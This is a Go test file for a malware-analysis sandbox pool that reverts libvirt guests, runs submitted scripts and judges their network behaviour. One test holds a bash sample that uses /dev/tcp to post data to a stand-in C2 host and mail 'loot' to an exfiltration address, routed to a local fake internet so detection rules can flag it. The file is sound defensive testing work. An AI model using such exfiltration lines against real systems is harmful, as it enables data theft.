package sandbox

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"image/png"
	"net/netip"
	"os"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/digitalocean/go-libvirt"

	"mailinspector/internal/sandbox/agent"
	"mailinspector/internal/sandbox/fakenet"
	"mailinspector/internal/testutil"
)

type bench struct {
	t      testing.TB
	lvd    *testutil.Libvirtd
	secret []byte
	image  Image
	doms   []string
}

// newBench starts a private libvirtd and n loopback guests for the image
// "linux" (testutil.SandboxGuests).
func newBench(t testing.TB, n int) *bench {
	t.Helper()
	b := &bench{t: t, lvd: testutil.StartLibvirtd(t), secret: []byte("sandbox secret of the test")}
	tmpl, err := os.ReadFile("testdata/test-domain.xml")
	if err != nil {
		t.Fatal(err)
	}
	g := testutil.StartSandboxGuests(t, b.lvd, b.secret, "linux", [4]byte{127, 0, 0, 1}, n)
	b.image = Image{Name: "linux", DomainXML: string(tmpl), Agents: g.Addrs}
	for i := 0; i < n; i++ {
		b.doms = append(b.doms, fmt.Sprintf("mi-sbx-linux-%d", i))
	}
	return b
}

func (b *bench) pool(opts Options) *Pool {
	b.t.Helper()
	u, err := ParseURI(b.lvd.URI())
	if err != nil {
		b.t.Fatal(err)
	}
	opts.Secret = b.secret
	if opts.CallTimeout == 0 {
		opts.CallTimeout = 5 * time.Second
	}
	if opts.ReadyTimeout == 0 {
		opts.ReadyTimeout = 10 * time.Second
	}
	if opts.Retry == 0 {
		opts.Retry = 200 * time.Millisecond
	}
	if opts.Requeues == 0 {
		opts.Requeues = 1
	}
	p, err := NewPool(NewConn(u, opts.CallTimeout), []Image{b.image}, opts)
	if err != nil {
		b.t.Fatal(err)
	}
	b.t.Cleanup(p.Close)
	return p
}

// waitFor polls the pool's status until cond holds.
func waitFor(t *testing.T, p *Pool, what string, cond func(Status) bool) Status {
	t.Helper()
	deadline := time.Now().Add(60 * time.Second)
	for {
		s := p.Status()
		if cond(s) {
			return s
		}
		if time.Now().After(deadline) {
			t.Fatalf("never %s; status %+v", what, s)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// bounded is a test's submission context: a pool that never answers fails
// the test in a minute instead of hanging the suite.
func bounded(t testing.TB) context.Context {
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	t.Cleanup(cancel)
	return ctx
}

func task(script string) *Task {
	s := sha256.Sum256([]byte(script))
	return &Task{Image: "linux", Name: "run.sh", SHA256: hex.EncodeToString(s[:]), Sample: []byte(script), Timeout: 20 * time.Second}
}

// domState asks the daemon for a domain's state on the test's connection.
func (b *bench) domState(name string) (libvirt.DomainState, []byte) {
	b.t.Helper()
	l, err := b.lvd.Dial()
	if err != nil {
		b.t.Fatal(err)
	}
	defer l.Disconnect()
	d, err := l.DomainLookupByName(name)
	if err != nil {
		b.t.Fatalf("%s: %v", name, err)
	}
	st, _, err := l.DomainGetState(d, 0)
	if err != nil {
		b.t.Fatal(err)
	}
	if _, err := l.DomainSnapshotLookupByName(d, ReadySnapshot, 0); err != nil {
		b.t.Fatalf("%s has no %s snapshot: %v", name, ReadySnapshot, err)
	}
	x, err := l.DomainGetXMLDesc(d, 0)
	if err != nil {
		b.t.Fatal(err)
	}
	return libvirt.DomainState(st), []byte(x)
}

func (b *bench) destroy(name string) {
	l, err := b.lvd.Dial()
	if err != nil {
		b.t.Fatal(err)
	}
	defer l.Disconnect()
	d, err := l.DomainLookupByName(name)
	if err == nil {
		err = l.DomainDestroy(d)
	}
	if err != nil {
		b.t.Fatalf("destroy %s: %v", name, err)
	}
}

// Instances are defined, booted and snapshotted once; each task reverts one
// to the ready snapshot, runs on a fresh agent and is torn down.
func TestPoolRunsEachTaskOnARevertedInstance(t *testing.T) {
	b := newBench(t, 2)
	p := b.pool(Options{})
	waitFor(t, p, "two free instances", func(s Status) bool { return s.Images[0].Free == 2 })
	ctx := bounded(t)
	for i := 0; i < 3; i++ {
		res, err := p.Submit(ctx, task(fmt.Sprintf("#!/bin/sh\necho run %d\n", i)))
		if err != nil {
			t.Fatal(err)
		}
		if !res.Report.Ran || !strings.Contains(res.Report.Output, fmt.Sprintf("run %d", i)) || res.Attempts != 1 {
			t.Fatalf("run %d: %+v %+v", i, res, res.Report)
		}
	}
	s := p.Status()
	if s.Counters.Reverts != 3 || s.Counters.Finished != 3 || len(s.Recent) != 3 || !s.Libvirt.Connected {
		t.Fatalf("status %+v", s)
	}
	for _, dom := range b.doms {
		st, x := b.domState(dom)
		if st != libvirt.DomainShutoff {
			t.Errorf("%s is %d after its runs, want shut off", dom, st)
		}
		if want := "mailinspector-agent-key=" + hex.EncodeToString(agent.InstanceKey(b.secret, dom)); !strings.Contains(string(x), want) {
			t.Errorf("%s's XML does not carry its agent key:\n%s", dom, x)
		}
	}
}

// More tasks than instances wait in the queue; a submission whose time is
// up leaves it with va-timeout; the same sample submitted twice runs once.
func TestPoolExhaustionQueuesAndTimesOut(t *testing.T) {
	b := newBench(t, 2)
	p := b.pool(Options{})
	waitFor(t, p, "two free instances", func(s Status) bool { return s.Images[0].Free == 2 })
	ctx := bounded(t)
	var wg sync.WaitGroup
	errs := make(chan error, 10)
	for i := 0; i < 4; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			res, err := p.Submit(ctx, task(fmt.Sprintf("#!/bin/sh\nsleep 1\necho %d\n", i)))
			if err == nil && !res.Report.Ran {
				err = fmt.Errorf("task %d did not run: %+v", i, res.Report)
			}
			errs <- err
		}(i)
	}
	waitFor(t, p, "both busy and two queued", func(s Status) bool { return s.Images[0].Busy == 2 && s.Queue == 2 })
	short, cancel := context.WithTimeout(ctx, 200*time.Millisecond)
	_, err := p.Submit(short, task("#!/bin/sh\necho late\n"))
	cancel()
	if err == nil || !strings.HasPrefix(err.Error(), "va-timeout") {
		t.Fatalf("a submission on a full pool: %v", err)
	}
	// The same sample twice at once: one run, two answers.
	dup := task("#!/bin/sh\nsleep 1\necho dup\n")
	for i := 0; i < 2; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			_, err := p.Submit(ctx, dup)
			errs <- err
		}()
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		if err != nil {
			t.Fatal(err)
		}
	}
	s := p.Status()
	if s.Queue != 0 || s.Counters.Finished != 5 || s.Counters.Reused != 1 || s.Counters.Reverts != 5 {
		t.Fatalf("status %+v", s.Counters)
	}
}

// A libvirtd that stops answering (SIGSTOP) costs one call deadline: the
// connection is dropped, the task is requeued and runs once it is back.
func TestPoolSurvivesAStuckLibvirtd(t *testing.T) {
	b := newBench(t, 1)
	p := b.pool(Options{CallTimeout: time.Second})
	waitFor(t, p, "a free instance", func(s Status) bool { return s.Images[0].Free == 1 })
	b.lvd.Freeze()
	done := make(chan struct{})
	var res *Result
	var err error
	go func() {
		defer close(done)
		res, err = p.Submit(bounded(t), task("#!/bin/sh\necho after the freeze\n"))
	}()
	st := waitFor(t, p, "the stuck call dropped", func(s Status) bool { return s.Libvirt.Drops >= 1 })
	if !strings.Contains(st.Libvirt.LastError, "did not return") {
		t.Errorf("last error %q", st.Libvirt.LastError)
	}
	b.lvd.Thaw()
	<-done
	if err != nil {
		t.Fatal(err)
	}
	if !res.Report.Ran || res.Attempts != 2 {
		t.Fatalf("result %+v", res)
	}
	if s := p.Status(); s.Counters.Requeued != 1 || !s.Libvirt.Connected {
		t.Fatalf("status %+v", s)
	}
}

// A restarted libvirtd has lost the instances (the test driver keeps
// nothing): the pool notices the lost connection, defines and snapshots
// them again, and the next task runs with nothing done by hand.
func TestPoolReconnectsAfterLibvirtdRestart(t *testing.T) {
	b := newBench(t, 1)
	p := b.pool(Options{})
	ctx := bounded(t)
	if _, err := p.Submit(ctx, task("#!/bin/sh\necho before\n")); err != nil {
		t.Fatal(err)
	}
	b.lvd.Stop()
	waitFor(t, p, "the connection lost", func(s Status) bool { return !s.Libvirt.Connected && s.Libvirt.Drops >= 1 })
	b.lvd.Start()
	res, err := p.Submit(ctx, task("#!/bin/sh\necho after\n"))
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(res.Report.Output, "after") {
		t.Fatalf("report %+v", res.Report)
	}
	if st, _ := b.domState("mi-sbx-linux-0"); st != libvirt.DomainShutoff {
		t.Fatalf("state %d", st)
	}
}

// An instance that dies during a run is taken out of the pool and its task
// goes to another one, once; dying there too fails the task with a reason.
func TestPoolRequeuesOnceThenFails(t *testing.T) {
	b := newBench(t, 2)
	p := b.pool(Options{Retry: 5 * time.Second})
	waitFor(t, p, "two free instances", func(s Status) bool { return s.Images[0].Free == 2 })
	done := make(chan error, 1)
	go func() {
		_, err := p.Submit(bounded(t), task("#!/bin/sh\nsleep 20\n"))
		done <- err
	}()
	killed := map[string]bool{}
	for len(killed) < 2 {
		s := waitFor(t, p, "a busy instance not killed yet", func(s Status) bool {
			for _, in := range s.Images[0].Instances {
				if in.State == StateBusy && !killed[in.Domain] {
					return true
				}
			}
			return false
		})
		for _, in := range s.Images[0].Instances {
			if in.State == StateBusy && !killed[in.Domain] {
				// Let the run start before pulling the plug.
				time.Sleep(300 * time.Millisecond)
				b.destroy(in.Domain)
				killed[in.Domain] = true
			}
		}
	}
	err := <-done
	if err == nil || !strings.HasPrefix(err.Error(), "va-error") || !strings.Contains(err.Error(), "stopped during the run") {
		t.Fatalf("err %v", err)
	}
	s := p.Status()
	if s.Counters.Requeued != 1 || s.Counters.Failed != 1 || s.Counters.TakenOut < 2 || s.Images[0].Out != 2 {
		t.Fatalf("status %+v", s)
	}
	if s.Recent[0].Attempts != 2 || s.Recent[0].Outcome != "error" {
		t.Fatalf("recent %+v", s.Recent)
	}
}

// BenchmarkPoolAnalysis is one analysis from submission to report on
// libvirt's test driver with a loopback guest: the orchestration's own
// cost (libvirt calls, agent protocol, strace start-up), without a VM's.
// The phases are reported per analysis.
func BenchmarkPoolAnalysis(b *testing.B) {
	bb := newBench(b, 1)
	p := bb.pool(Options{})
	deadline := time.Now().Add(30 * time.Second)
	for p.Status().Images[0].Free != 1 && time.Now().Before(deadline) {
		time.Sleep(10 * time.Millisecond)
	}
	var ph Phases
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		res, err := p.Submit(bounded(b), task(fmt.Sprintf("#!/bin/sh\necho %d\n", i)))
		if err != nil || !res.Report.Ran {
			b.Fatalf("%v %+v", err, res)
		}
		ph.RevertMS += res.Phases.RevertMS
		ph.ReadyMS += res.Phases.ReadyMS
		ph.RunMS += res.Phases.RunMS
		ph.TeardownMS += res.Phases.TeardownMS
	}
	n := float64(b.N)
	b.ReportMetric(float64(ph.RevertMS)/n, "revert-ms/op")
	b.ReportMetric(float64(ph.ReadyMS)/n, "ready-ms/op")
	b.ReportMetric(float64(ph.RunMS)/n, "run-ms/op")
	b.ReportMetric(float64(ph.TeardownMS)/n, "teardown-ms/op")
}

// What the fake internet saw from the guest during the run is in the
// report, and the rules judge it: a script that posts to a web server and
// sends a mail is high risk with web-request and mail-out.
func TestPoolAddsWhatTheFakeInternetSaw(t *testing.T) {
	fn, err := fakenet.Start(netip.MustParseAddr("127.0.0.1"), fakenet.Ports{})
	if err != nil {
		t.Fatal(err)
	}
	defer fn.Close()
	b := newBench(t, 1)
	p := b.pool(Options{Observed: func(guest string, since, until time.Time) []agent.Event {
		var out []agent.Event
		for _, c := range fn.Seen(guest, since, until) {
			out = append(out, agent.Event{MS: c.At.Sub(since).Milliseconds(), Type: c.Kind, Addr: c.Name, Detail: c.Detail})
		}
		return out
	}})
	script := fmt.Sprintf(`#!/bin/bash
exec 3<>/dev/tcp/127.0.0.1/%d
printf 'POST /gate HTTP/1.0\r\nHost: c2.evil.example\r\nContent-Length: 4\r\n\r\ndata' >&3
cat <&3 >/dev/null
exec 4<>/dev/tcp/127.0.0.1/%d
read -r greeting <&4
printf 'HELO x\r\nMAIL FROM:<a@b.example>\r\nRCPT TO:<drop@exfil.example>\r\nDATA\r\n' >&4
sleep 0.5
printf 'Subject: loot\r\n\r\nloot\r\n.\r\nQUIT\r\n' >&4
sleep 0.5
`, fn.Bound.HTTP, fn.Bound.SMTP)
	res, err := p.Submit(bounded(t), task(script))
	if err != nil {
		t.Fatal(err)
	}
	v := Judge(res.Report)
	ids := map[string]bool{}
	for _, m := range v.Matches {
		ids[m.ID] = true
	}
	if !ids["web-request"] || !ids["mail-out"] || v.Risk != RiskHigh {
		t.Fatalf("verdict %s; events %v", v.Summary(), res.Report.Events)
	}
}

// A domain of the same name left from another template (a libvirt host
// keeps persistent domains and their snapshots) is undefined with its
// snapshots and defined from the current template before any run.
func TestPoolRedefinesADomainFromAnotherTemplate(t *testing.T) {
	b := newBench(t, 1)
	l, err := b.lvd.Dial()
	if err != nil {
		t.Fatal(err)
	}
	old := "<domain type='test'><name>mi-sbx-linux-0</name><memory unit='MiB'>128</memory><os><type>hvm</type></os></domain>"
	d, err := l.DomainDefineXML(old)
	if err == nil {
		err = l.DomainCreate(d)
	}
	if err == nil {
		_, err = l.DomainSnapshotCreateXML(d, "<domainsnapshot><name>"+ReadySnapshot+"</name></domainsnapshot>", 0)
	}
	if err == nil {
		err = l.DomainDestroy(d)
	}
	l.Disconnect()
	if err != nil {
		t.Fatal(err)
	}
	p := b.pool(Options{})
	res, err := p.Submit(bounded(t), task("#!/bin/sh\necho fresh\n"))
	if err != nil || !strings.Contains(res.Report.Output, "fresh") {
		t.Fatalf("%v %+v", err, res)
	}
	_, x := b.domState("mi-sbx-linux-0")
	if !strings.Contains(string(x), templateMark) || !strings.Contains(string(x), "mailinspector-agent-key=") {
		t.Fatalf("the old domain stayed:\n%s", x)
	}
}

// With a base image the pool makes each instance's overlay itself, through
// libvirt's storage API, and the domain's disk is that volume.
func TestPoolMakesTheOverlays(t *testing.T) {
	b := newBench(t, 1)
	tmpl, err := os.ReadFile("testdata/test-domain-overlay.xml")
	if err != nil {
		t.Fatal(err)
	}
	b.image.DomainXML, b.image.BaseImage, b.image.StoragePool = string(tmpl), "/images/linux-guest.qcow2", "default-pool"
	p := b.pool(Options{})
	if _, err := p.Submit(bounded(t), task("#!/bin/sh\necho on an overlay\n")); err != nil {
		t.Fatalf("%v; status %+v", err, p.Status().Images)
	}
	l, err := b.lvd.Dial()
	if err != nil {
		t.Fatal(err)
	}
	defer l.Disconnect()
	sp, err := l.StoragePoolLookupByName("default-pool")
	if err != nil {
		t.Fatal(err)
	}
	vol, err := l.StorageVolLookupByName(sp, "mi-sbx-linux-0.qcow2")
	if err != nil {
		t.Fatalf("no overlay volume: %v", err)
	}
	vx, err := l.StorageVolGetXMLDesc(vol, 0)
	if err != nil {
		t.Fatal(err)
	}
	path, _ := l.StorageVolGetPath(vol)
	_, x := b.domState("mi-sbx-linux-0")
	if !strings.Contains(string(x), "<source file='"+path+"'") || !strings.Contains(vx, "/images/linux-guest.qcow2") {
		t.Fatalf("domain disk / volume:\n%s\n%s", x, vx)
	}
}

// With Pause the instance is suspended after its run, not destroyed, and
// the next revert takes it from there.
func TestPoolPausesInsteadOfDestroying(t *testing.T) {
	b := newBench(t, 1)
	p := b.pool(Options{Pause: true})
	for i := 0; i < 2; i++ {
		res, err := p.Submit(bounded(t), task(fmt.Sprintf("#!/bin/sh\necho paused %d\n", i)))
		if err != nil || !strings.Contains(res.Report.Output, fmt.Sprintf("paused %d", i)) {
			t.Fatalf("run %d: %v %+v", i, err, res)
		}
		if st, _ := b.domState("mi-sbx-linux-0"); st != libvirt.DomainPaused {
			t.Fatalf("after run %d the instance is %d, want paused", i, st)
		}
	}
}

// With Screenshot set, each run brings back the display the driver gives
// (the test driver's own picture), as PNG; without it, none is taken.
func TestPoolTakesAScreenshot(t *testing.T) {
	b := newBench(t, 1)
	p := b.pool(Options{Screenshot: true})
	res, err := p.Submit(bounded(t), task("#!/bin/sh\necho shown\n"))
	if err != nil {
		t.Fatal(err)
	}
	s := res.Screenshot
	if s == nil || s.Error != "" {
		t.Fatalf("screenshot %+v", s)
	}
	img, err := png.Decode(bytes.NewReader(s.PNG))
	if err != nil || img.Bounds().Dx() < 2 {
		t.Fatalf("not a picture: %v", err)
	}
	b2 := newBench(t, 1)
	res, err = b2.pool(Options{}).Submit(bounded(t), task("#!/bin/sh\necho shown\n"))
	if err != nil || res.Screenshot != nil {
		t.Fatalf("unasked screenshot: %v %+v", err, res.Screenshot)
	}
}

// The proxy is handed to links always, to files only with ProxySamples.
func TestPoolGivesFilesTheProxyOnlyWhenAsked(t *testing.T) {
	for _, give := range []bool{false, true} {
		b := newBench(t, 1)
		p := b.pool(Options{Proxy: "http://10.77.0.1:3128", ProxySamples: give})
		res, err := p.Submit(bounded(t), task("#!/bin/sh\necho \"proxy=[$http_proxy]\"\n"))
		if err != nil {
			t.Fatal(err)
		}
		want := "proxy=[]"
		if give {
			want = "proxy=[http://10.77.0.1:3128]"
		}
		if !strings.Contains(res.Report.Output, want) {
			t.Errorf("ProxySamples %v: output %q", give, res.Report.Output)
		}
	}
}
